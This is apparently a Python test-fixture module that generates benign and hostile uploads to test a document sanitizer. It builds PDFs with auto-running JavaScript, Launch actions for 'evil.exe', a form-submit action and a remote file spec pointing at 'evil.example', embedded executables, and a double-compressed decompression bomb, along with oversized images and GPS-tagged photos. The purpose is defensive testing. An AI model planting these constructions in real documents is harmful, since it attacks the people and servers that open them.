"""Papers as customers and attackers send them, each made when a test wants it."""

from __future__ import annotations

import io
import os
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image
from reportlab.pdfgen.canvas import Canvas

WORDS = "Exemption certificate of Lone Star Supply"
LETTER = (612.0, 792.0)


def pdf(pages: int = 1, size: tuple[float, float] = LETTER, words: str = WORDS) -> bytes:
    """A PDF with *words* on each page."""
    paper = io.BytesIO()
    canvas = Canvas(paper, pagesize=size, invariant=1)
    for number in range(1, pages + 1):
        canvas.setFont("Helvetica", 24)
        canvas.drawString(60, size[1] - 100, f"{words} {number}")
        canvas.showPage()
    canvas.save()
    return paper.getvalue()


def filled_pdf(value: str = "32012345678") -> bytes:
    """A PDF with a form field that says *value*."""
    paper = io.BytesIO()
    canvas = Canvas(paper, pagesize=LETTER, invariant=1)
    canvas.acroForm.textfield(name="number", value=value, x=60, y=600, width=400, fontSize=24)
    canvas.showPage()
    canvas.save()
    return paper.getvalue()


def changed(change: Callable[[pikepdf.Pdf], None], **how: Any) -> bytes:
    """The ordinary PDF after a *change*, saved as *how* says."""
    saved = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as paper:
        change(paper)
        paper.save(saved, **how)
    return saved.getvalue()


def action(kind: str, **more: Any) -> Dictionary:
    """An action of that kind."""
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def script(paper: pikepdf.Pdf) -> None:
    """JavaScript that runs when it is opened, in the tree of names, on a page, and in a field."""
    run = action("JavaScript", JS=String("app.alert('evil one')"))
    paper.Root.OpenAction = paper.make_indirect(run)
    stream = paper.make_indirect(Stream(paper, b"app.alert('evil two')"))
    named = action("JavaScript", JS=stream)
    paper.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("evil three"), named])))
    paper.pages[0].obj.AA = Dictionary(O=action("JavaScript", JS=String("evil four")))
    chained = action("GoTo", D=Array([]), Next=Array([action("JavaScript", JS=String("evil 5"))]))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=chained)
    paper.pages[0].obj.Annots = Array([paper.make_indirect(link)])


def launch(paper: pikepdf.Pdf) -> None:
    """Links that start a program, and open another file."""
    for_one = Dictionary(F=String("evil.exe"))
    links = [
        action("Launch", F=String("evil.exe"), Win=for_one),
        action("GoToR", F=String("//evil/share.pdf"), D=Array([0, Name.Fit])),
        action("URI", URI=String("javascript:evil()")),
    ]
    paper.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=a) for a in links]
    )


def submit(paper: pikepdf.Pdf) -> None:
    """A button that sends what is filled in, and a file whose data comes from elsewhere."""
    send = action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("https://evil.example/")))
    button = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=send)
    paper.pages[0].obj.Annots = Array([paper.make_indirect(button)])
    elsewhere = Stream(paper, b"")
    elsewhere.F = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("https://evil.example/x"))
    paper.Root.Elsewhere = paper.make_indirect(elsewhere)


def media(paper: pikepdf.Pdf) -> None:
    """A film, a sound, a model with a script, and a program for printers."""
    film = Dictionary(F=String("evil.avi"))
    sound = paper.make_indirect(Stream(paper, b"evil noise"))
    model = paper.make_indirect(Stream(paper, b"evil model"))
    model.OnInstantiate = paper.make_indirect(Stream(paper, b"evil()"))
    rich = Dictionary(Configurations=Array([]), Assets=Dictionary(Names=Array([])))
    kinds = (
        Dictionary(Subtype=Name.Movie, Movie=film),
        Dictionary(Subtype=Name.Sound, Sound=sound),
        Dictionary({"/Subtype": Name("/3D"), "/3DD": model}),
        Dictionary(Subtype=Name.RichMedia, RichMediaContent=rich),
    )
    for each in kinds:
        each.Type, each.Rect = Name.Annot, Array([0, 0, 9, 9])
    paper.pages[0].obj.Annots = Array([paper.make_indirect(each) for each in kinds])
    program = paper.make_indirect(Stream(paper, b"(evil) print"))
    program.Type, program.Subtype = Name.XObject, Name.PS
    paper.pages[0].obj.Resources.XObject = Dictionary(JS=program)


def names_alike(paper: pikepdf.Pdf) -> None:
    """Fonts and pictures whose names are those of what is removed elsewhere."""
    form = paper.make_indirect(Stream(paper, b"0 0 m 9 9 l S"))
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
    fonts = paper.pages[0].obj.Resources.Font
    font = fonts[next(iter(fonts.keys()))]
    for name in ("/AA", "/EF", "/AF", "/JavaScript"):
        fonts[name] = font
    paper.pages[0].obj.Resources.XObject = Dictionary(
        dict.fromkeys(("/JS", "/XFA", "/AF", "/Sound", "/AA"), form)
    )


def root_is_an_action(paper: pikepdf.Pdf) -> None:
    """The whole document is one that starts a program, to those who look at it so."""
    paper.Root.S = Name.Launch


def in_latin_1() -> bytes:
    """A PDF whose font has a German name, as older programs write it."""
    return pdf().replace(b"/F1", b"/\xd61")


def xfa(paper: pikepdf.Pdf) -> None:
    """A form in XML beside the form."""
    form = paper.make_indirect(Stream(paper, b"<xdp><script>evil</script></xdp>"))
    paper.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array([String("template"), form]))
    paper.Root.NeedsRendering = True


def embedded(paper: pikepdf.Pdf) -> None:
    """A program in all four places, and in one that nothing leads to."""

    def held() -> Dictionary:
        program = paper.make_indirect(Stream(paper, b"MZ evil program"))
        program.Type = Name.EmbeddedFile
        return Dictionary(
            Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=program, UF=program)
        )

    named = paper.make_indirect(held())
    paper.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("evil.exe"), named]))
    )
    paper.Root.AF = Array([paper.make_indirect(held())])
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=held())
    paper.pages[0].obj.Annots = Array([paper.make_indirect(note)])
    untyped = paper.make_indirect(Stream(paper, b"MZ evil, not said to be embedded"))
    paper.pages[0].obj.AF = held()
    paper.pages[0].obj.AF.EF = Dictionary(F=untyped)
    paper.Root.Collection = Dictionary(Type=Name.Collection)
    held()  # nothing leads to it


def bomb(paper: pikepdf.Pdf) -> None:
    """200 MB of lines to draw, deflated twice."""
    packer, inner = zlib.compressobj(9), b""
    line = b"0 0 m 1 1 l S\n" * 100_000
    for _ in range(150):
        inner += packer.compress(line)
    packed = zlib.compress(inner + packer.flush(), 9)
    drawing = Stream(paper, b"")
    drawing.write(packed, filter=Array([Name.FlateDecode, Name.FlateDecode]))
    paper.pages[0].obj.Contents = paper.make_indirect(drawing)


def picture(kind: str, size: tuple[int, int] = (120, 80), **how: Any) -> bytes:
    """A picture, its upper half black."""
    drawn = Image.new("RGB", size, "white")
    drawn.paste("black", (0, 0, size[0], size[1] // 2))
    saved = io.BytesIO()
    drawn.save(saved, kind, **how)
    return saved.getvalue()


def photo() -> bytes:
    """A JPEG that a telephone held on its side has made, and where that was."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn it by a quarter
    exif[0x010F] = "EvilCam"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (30.0, 16.0, 2.0)
    return picture("JPEG", exif=exif, comment=b"evil remark")


def noise(size: tuple[int, int]) -> bytes:
    """A JPEG that does not pack well."""
    drawn = Image.frombytes("L", size, os.urandom(size[0] * size[1]))
    saved = io.BytesIO()
    drawn.save(saved, "JPEG", quality=60)
    return saved.getvalue()


def scans(*sizes: tuple[int, int]) -> bytes:
    """A TIFF with a scan of each size."""
    pages = [Image.new("1", size, 1) for size in sizes]
    saved = io.BytesIO()
    pages[0].save(saved, "TIFF", save_all=True, append_images=pages[1:], compression="group4")
    return saved.getvalue()


def huge_png() -> bytes:
    """20,000 pixels each way, in a few kilobytes."""
    saved = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(saved, "PNG")
    return saved.getvalue()


def locked(user: str) -> bytes:
    """A PDF that is encrypted; without a password for the *user* everybody can open it."""
    return changed(lambda _paper: None, encryption=pikepdf.Encryption(user=user, owner="owner"))


def packed_bomb() -> bytes:
    """The PDF with the bomb, as an attacker saves it."""
    none = pikepdf.StreamDecodeLevel.none
    return changed(bomb, compress_streams=False, stream_decode_level=none)
